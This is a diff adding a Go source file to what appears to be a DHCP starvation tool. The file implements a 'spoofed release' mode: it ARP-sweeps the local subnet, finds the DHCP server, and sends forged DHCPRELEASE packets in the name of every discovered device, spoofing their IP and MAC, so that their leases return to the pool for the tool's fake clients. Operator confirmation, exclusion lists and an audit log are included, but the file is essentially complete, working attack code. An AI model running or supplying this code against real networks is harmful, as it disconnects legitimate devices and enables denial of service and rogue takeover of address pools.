@@ -0,0 +1,205 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"math/rand"
+	"net"
+	"sort"
+	"strings"
+	"time"
+)
+
+// leaseEviction frees the leases of the devices already on the segment for
+// -spoof-release, the full starvation technique against a server whose pool
+// is pinned by its legitimate clients: exhausting what is left of it only
+// takes the addresses nobody holds. Every device an ARP sweep finds is sent
+// a DHCPRELEASE of its address in its name, so the server returns the
+// address to the pool and the run's clients take it.
+type leaseEviction struct {
+	engine *rawEngine
+	netCfg *NetworkConfig
+	// exclude holds the IPs and MACs of -spoof-release-exclude.
+	exclude map[string]bool
+
+	// server is the server the releases were sent to, nil until then.
+	server   net.IP
+	released []arpNeighbour
+	skipped  int
+}
+
+// arpNeighbour is a device that answered the ARP sweep.
+type arpNeighbour struct {
+	IP  net.IP
+	MAC net.HardwareAddr
+}
+
+// newLeaseEviction validates -spoof-release-exclude and asks the operator
+// to confirm on in. It returns nil when -spoof-release is not set.
+func newLeaseEviction(cfg Config, netCfg *NetworkConfig, engine *rawEngine, in io.Reader) (*leaseEviction, error) {
+	if !cfg.SpoofRelease {
+		return nil, nil
+	}
+	e := &leaseEviction{engine: engine, netCfg: netCfg, exclude: make(map[string]bool)}
+	for _, s := range cfg.SpoofReleaseExclude {
+		if ip := net.ParseIP(s).To4(); ip != nil {
+			e.exclude[ip.String()] = true
+		} else if mac, err := net.ParseMAC(s); err == nil {
+			e.exclude[mac.String()] = true
+		} else {
+			return nil, fmt.Errorf("invalid -spoof-release-exclude entry '%s': use an IPv4 or MAC address", s)
+		}
+	}
+
+	fmt.Println("=== Spoofed Releases ===")
+	fmt.Printf("Before launching, this run will ARP-sweep %s and send every device that answers a\n", netCfg.Subnet)
+	fmt.Println("DHCPRELEASE of its address in its name, so the server takes the lease back and the run's")
+	fmt.Println("clients get it. The devices keep using addresses the server no longer reserves for them")
+	fmt.Println("and lose them at their next renewal.")
+	fmt.Printf("Left alone: the gateway %s, this host, the DHCP server", netCfg.Gateway)
+	if len(cfg.SpoofReleaseExclude) > 0 {
+		fmt.Printf(" and %s", strings.Join(cfg.SpoofReleaseExclude, ", "))
+	}
+	fmt.Println(".")
+	if err := confirmInterface("-spoof-release", netCfg.Parent, in); err != nil {
+		return nil, err
+	}
+	return e, nil
+}
+
+// run finds the devices on the segment and the server that leased to them,
+// and releases their leases. The engine's receive loop must be running.
+func (e *leaseEviction) run(ctx context.Context) error {
+	if e == nil {
+		return nil
+	}
+	fmt.Printf("Spoofed releases: ARP sweeping %s...\n", e.netCfg.Subnet)
+	obs := newObserver(e.netCfg, nil)
+	if err := obs.sweep(ctx); err != nil {
+		return fmt.Errorf("-spoof-release sweep failed: %v", err)
+	}
+	obs.mu.Lock()
+	neighbours := make(map[string]net.HardwareAddr, len(obs.inUse))
+	for ip, mac := range obs.inUse {
+		neighbours[ip] = mac
+	}
+	obs.mu.Unlock()
+
+	serverIP, serverMAC, err := e.findServer(ctx, neighbours)
+	if err != nil {
+		return err
+	}
+	e.server = serverIP
+	fmt.Printf("Spoofed releases: %d devices answered; releasing their leases at %s\n", len(neighbours), serverIP)
+
+	ips := make([]string, 0, len(neighbours))
+	for ip := range neighbours {
+		ips = append(ips, ip)
+	}
+	sort.Slice(ips, func(i, j int) bool { return ipToUint32(net.ParseIP(ips[i])) < ipToUint32(net.ParseIP(ips[j])) })
+	own := e.engine.conn.iface.HardwareAddr.String()
+	for _, s := range ips {
+		ip, mac := net.ParseIP(s).To4(), neighbours[s]
+		if ip.Equal(e.netCfg.Gateway) || ip.Equal(e.netCfg.HostIP) || ip.Equal(serverIP) || mac.String() == own || e.exclude[s] || e.exclude[mac.String()] {
+			e.skipped++
+			continue
+		}
+		if err := e.release(ip, mac, serverIP, serverMAC); err != nil {
+			return err
+		}
+		e.released = append(e.released, arpNeighbour{IP: ip, MAC: mac})
+		audit.record("spoofed_release", map[string]any{"ip": s, "mac": mac.String(), "server": serverIP.String()})
+		clock.Sleep(10 * time.Millisecond)
+	}
+	fmt.Printf("Spoofed releases: released %d leases, left %d devices alone\n", len(e.released), e.skipped)
+	return nil
+}
+
+// findServer returns the server to release at: -server when given, else
+// the one that answers a DISCOVER from the adapter's own MAC. Its MAC is
+// the one the sweep saw, the gateway's for a server off the subnet, if any.
+func (e *leaseEviction) findServer(ctx context.Context, neighbours map[string]net.HardwareAddr) (net.IP, net.HardwareAddr, error) {
+	if server := e.engine.server; server != nil {
+		return server.ip, server.mac, nil
+	}
+	mac := e.engine.conn.iface.HardwareAddr
+	discover := newDHCPRequest(dhcpDiscover, rand.Uint32(), mac)
+	discover.addOption(optClientID, append([]byte{1}, mac...))
+	offer, err := e.engine.transact(ctx, discover, 3, 3*time.Second, dhcpOffer)
+	if err != nil {
+		return nil, nil, err
+	}
+	if offer == nil || offer.serverID() == nil {
+		return nil, nil, fmt.Errorf("-spoof-release: no DHCP server answered to learn its address from; name it with -server")
+	}
+	ip := offer.serverID().To4()
+	if !e.netCfg.Subnet.Contains(ip) {
+		return ip, neighbours[e.netCfg.Gateway.String()], nil
+	}
+	return ip, neighbours[ip.String()], nil
+}
+
+// release sends the server a DHCPRELEASE of ip in the name of mac, twice:
+// with the client identifier most clients send (type 1 and the MAC) and
+// without one, since servers only release a lease whose client identifier
+// matches the one it was leased to.
+func (e *leaseEviction) release(ip net.IP, mac net.HardwareAddr, server net.IP, serverMAC net.HardwareAddr) error {
+	dstMAC := broadcastMAC
+	if serverMAC != nil {
+		dstMAC = serverMAC
+	}
+	for _, clientID := range [][]byte{append([]byte{1}, mac...), nil} {
+		msg := newDHCPRequest(dhcpRelease, rand.Uint32(), mac)
+		msg.Flags = 0
+		msg.CIAddr = ip
+		msg.addOption(optServerID, server.To4())
+		if clientID != nil {
+			msg.addOption(optClientID, clientID)
+		}
+		frame := buildUDPFrame(udpFrame{
+			SrcMAC:  e.engine.source(mac),
+			DstMAC:  dstMAC,
+			SrcIP:   ip,
+			DstIP:   server,
+			SrcPort: dhcpClientPort,
+			DstPort: dhcpServerPort,
+			Payload: msg.marshal(),
+		})
+		if err := e.engine.conn.writeFrame(frame); err != nil {
+			return fmt.Errorf("failed to send spoofed RELEASE for %s: %v", ip, err)
+		}
+	}
+	return nil
+}
+
+// printSummary lists the leases released and which of their addresses the
+// run went on to lease. A nil eviction prints nothing.
+func (e *leaseEviction) printSummary(leases *leaseTable) {
+	if e == nil {
+		return
+	}
+	fmt.Println("=== Spoofed Releases ===")
+	if e.server == nil {
+		fmt.Println("No releases were sent")
+		return
+	}
+	taken := make(map[string]bool)
+	for _, r := range leases.snapshot() {
+		taken[r.IP] = true
+	}
+	retaken := 0
+	for _, n := range e.released {
+		if taken[n.IP.String()] {
+			retaken++
+		}
+	}
+	fmt.Printf("Released at %s: %d leases (%d devices left alone), %d of them since leased by the run\n", e.server, len(e.released), e.skipped, retaken)
+	for _, n := range e.released {
+		if taken[n.IP.String()] {
+			fmt.Printf("  %-15s %s  leased by the run\n", n.IP, n.MAC)
+		} else {
+			fmt.Printf("  %-15s %s\n", n.IP, n.MAC)
+		}
+	}
+}